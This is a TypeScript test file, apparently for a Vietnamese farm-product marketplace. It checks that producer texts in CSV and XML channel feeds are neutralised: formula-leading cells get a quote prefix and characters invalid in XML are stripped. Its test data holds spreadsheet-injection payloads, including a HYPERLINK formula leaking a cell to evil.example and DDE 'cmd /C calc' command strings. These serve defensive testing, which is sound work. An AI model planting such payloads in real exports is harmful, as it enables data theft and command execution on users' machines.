import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { SaxesParser } from 'saxes';
import { uploads } from '../../../db/schema/index.js';
import { as, buildUser, createTestApp, json, type Built, type TestApp } from '../../../../test/helper.js';
import { buildBatch, buildSaleChannel, buildSaleChannelReference } from '../../../../test/factories.js';
import { catalogFixture, createProduct, productBody } from '../../products/test-support.js';

/**
 * Issue 25: texts a producer types reach the channels' feeds (ADR 034). A formula in a product or
 * producer text reaches the CSV as text; a character XML 1.0 forbids leaves the feed and the
 * sitemap well formed, the rest of the text kept. Everything goes through the API: the producer
 * writes, an administrator approves, the producer syncs, the channel reads the feed.
 */

let t: TestApp;
let cat: Awaited<ReturnType<typeof catalogFixture>>;
let admin: Built;
beforeAll(async () => {
  t = await createTestApp();
  cat = await catalogFixture(t.db);
  admin = await buildUser(t.db, { platform: PLATFORM, roles: ['admin'] });
});
afterAll(() => t.close());

const PLATFORM = 'agrihub' as const;
const REQUIREMENTS = { gtin: false, min_images: 1, approved_product: true, price: true, min_description: 0 };

/** Every character XML 1.0 forbids that a text field stores (NUL and lone surrogates are refused: see below). */
const FORBIDDEN = [
  ...Array.from({ length: 9 }, (_, i) => String.fromCharCode(i)).slice(1),
  '\u000B',
  '\u000C',
  ...Array.from({ length: 18 }, (_, i) => String.fromCharCode(0x0e + i)),
  '\uFFFE',
  '\uFFFF',
].join('');

const inject = (u: Built, method: 'GET' | 'POST' | 'PUT', url: string, payload?: object) =>
  t.app.inject({ method, url, headers: as(u), ...(payload ? { payload } : {}) });

/** A producer named `name` with a product (name, description) approved by an administrator and synced to `channelId`. */
async function syncedProduct(u: Built, channelId: number, name: string, description: string) {
  const [image] = await t.db
    .insert(uploads)
    .values({
      platform: u.platform,
      userId: u.user.id,
      kind: 'image',
      storageKey: `${u.platform}/2025/01/${Math.random().toString(16).slice(2)}.jpg`,
      contentType: 'image/jpeg',
      byteSize: 10,
      filename: 'anh.jpg',
    })
    .returning();
  const product = await createProduct(
    t.app,
    u,
    productBody(cat.leaf, { name, description, price: { cents: 125_000 }, image_ids: [image.id] }),
  );
  expect((await inject(u, 'POST', `/api/v1/products/${product.id}/register`)).statusCode).toBe(200);
  const approved = await inject(admin, 'POST', `/api/v1/admin/products/${product.id}/approve`);
  expect(approved.statusCode, approved.body).toBe(200);
  await buildBatch(t.db, { productId: product.id });
  const ref = await buildSaleChannelReference(t.db, { productId: product.id, channelId, registerStatus: 'approved' });
  const synced = await inject(u, 'POST', `/api/v1/sale_channel_references/${ref.id}/sync`);
  expect(synced.statusCode, synced.body).toBe(200);
  return product;
}

/** A producer of the platform whose name was set through PUT /api/v1/producers/{id}. */
async function producerNamed(name: string) {
  const u = await buildUser(t.db, { platform: PLATFORM });
  const res = await inject(u, 'PUT', `/api/v1/producers/${u.producerId}`, { name });
  expect(res.statusCode, res.body).toBe(200);
  return u;
}

const feed = (token: string, format: 'xml' | 'csv') =>
  t.app.inject({ method: 'GET', url: `/feeds/${token}.${format}` });

/** The feed's CSV read back by a real CSV reader (csv-parse), one object per row by the header. */
async function csvRows(token: string): Promise<Record<string, string>[]> {
  const res = await feed(token, 'csv');
  expect(res.statusCode).toBe(200);
  return parseCsv<Record<string, string>>(res.body, { columns: true });
}

/**
 * The feed read by a conforming XML parser (saxes: it refuses the characters XML 1.0 forbids,
 * which fast-xml-parser's XMLValidator lets through, and decodes character references): the
 * parser's errors (none for a well-formed document) and the text of each item's fields.
 */
function readXml(xml: string): { errors: string[]; items: Record<string, string>[] } {
  const errors: string[] = [];
  const items: Record<string, string>[] = [];
  let field: string | null = null;
  const parser = new SaxesParser();
  parser.on('error', (e) => errors.push(e.message));
  parser.on('opentag', (tag) => {
    if (tag.name === 'item') items.push({});
    else if (items.length && tag.name.startsWith('g:')) field = tag.name;
  });
  parser.on('text', (text) => {
    if (field) items[items.length - 1][field] = (items[items.length - 1][field] ?? '') + text;
  });
  parser.on('closetag', () => (field = null));
  parser.write(xml).close();
  return { errors, items };
}

describe('formula-leading texts reach the feed CSV as text (issue 25)', () => {
  /** [product name, description]: each starts as a spreadsheet reads a formula or a command. */
  const CASES: [string, string][] = [
    ['=HYPERLINK("http://evil.example/?"&A1,"rt")', "+1+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
    // A character the file drops first must not uncover a formula, a tab or a CR behind it.
    ['\u0001\t=1+1', '\u0002\r=1+1 mô tả'],
    ['\u0003=HYPERLINK("http://evil.example")', '\u0004@SUM(A1)'],
    // Full-width forms, which some spreadsheets read as the ASCII ones.
    ['＝HYPERLINK("http://evil.example")', "＋1+cmd|' /C calc'!A0"],
    ['－1+1', '＠SUM(A1)'],
  ];
  const BRAND = "=cmd|' /C calc'!A0 HTX";

  it('every cell is the text behind a quote in the CSV; the XML keeps the text as typed', async () => {
    const channel = await buildSaleChannel(t.db, { platform: PLATFORM, name: 'Tiki', requirements: REQUIREMENTS });
    const u = await producerNamed(BRAND);
    const codes = new Map<string, [string, string]>();
    for (const [name, description] of CASES) {
      const p = await syncedProduct(u, channel.id, name, description);
      codes.set(p.public_code, [name, description]);
    }
    const clean = (s: string) => s.replace(/^[\u0001-\u0004]/, ''); // eslint-disable-line no-control-regex

    const rows = await csvRows(channel.feedToken);
    expect(rows).toHaveLength(CASES.length);
    for (const row of rows) {
      const [name, description] = codes.get(row.id)!;
      expect(row.title).toBe(`'${clean(name)}`);
      expect(row.description).toBe(`'${clean(description)}`);
      expect(row.brand).toBe(`'${BRAND}`);
      expect(row.price).toBe('125000 VND');
    }

    const { errors, items: listed } = readXml((await feed(channel.feedToken, 'xml')).body);
    expect(errors).toEqual([]);
    expect(listed).toHaveLength(CASES.length);
    for (const item of listed) {
      const [name, description] = codes.get(item['g:id'])!;
      expect(item['g:title']).toBe(clean(name));
      expect(item['g:description']).toBe(clean(description));
      expect(item['g:brand']).toBe(BRAND);
    }
  });
});

describe('characters XML 1.0 forbids in product and producer texts (issue 25)', () => {
  it('the feed XML and the sitemap stay well formed; the texts are kept without them, in the XML and the CSV', async () => {
    const channel = await buildSaleChannel(t.db, { platform: PLATFORM, name: 'Lazada', requirements: REQUIREMENTS });
    const brand = `HTX${FORBIDDEN} Chè Tà Xùa`;
    const name = `Chè${FORBIDDEN} Shan tuyết <cổ thụ> & "loại 1"`;
    const description = `Hái tay${FORBIDDEN}, sao suốt;\r\nnước xanh\t— hậu ngọt.`;
    const u = await producerNamed(brand);
    const product = await syncedProduct(u, channel.id, name, description);
    const without = (s: string) =>
      s
        .split('')
        .filter((c) => !FORBIDDEN.includes(c))
        .join('');

    const xml = await feed(channel.feedToken, 'xml');
    expect(xml.statusCode).toBe(200);
    const { errors, items } = readXml(xml.body);
    expect(errors).toEqual([]);
    expect(items).toEqual([
      expect.objectContaining({
        'g:id': product.public_code,
        'g:title': without(name),
        'g:description': without(description),
        'g:brand': without(brand),
      }),
    ]);

    const [row] = await csvRows(channel.feedToken);
    expect(row).toMatchObject({ title: without(name), description: without(description), brand: without(brand) });

    const sitemap = await t.app.inject({
      method: 'GET',
      url: '/sitemap.xml',
      headers: { host: `${PLATFORM}.localhost:3000` },
    });
    expect(sitemap.statusCode).toBe(200);
    expect(readXml(sitemap.body).errors).toEqual([]);
    expect(sitemap.body).toContain('<urlset');
  });

  it('NUL and lone surrogates cannot be stored: 422 with the Vietnamese message, the producer unchanged', async () => {
    const u = await producerNamed('HTX Mộc Châu');
    for (const name of ['HTX\u0000 Mộc Châu', 'HTX\uD800 Mộc Châu', 'HTX\uDC00 Mộc Châu']) {
      const res = await inject(u, 'PUT', `/api/v1/producers/${u.producerId}`, { name });
      expect(res.statusCode).toBe(422);
      expect(json(res).meta.errors).toEqual([
        { field: 'name', message: 'Có ký tự không được phép (ký tự NUL hoặc mã Unicode không hợp lệ).' },
      ]);
    }
    const res = await inject(u, 'GET', `/api/v1/producers/${u.producerId}`);
    expect(json(res).data.producer.name).toBe('HTX Mộc Châu');
  });
});
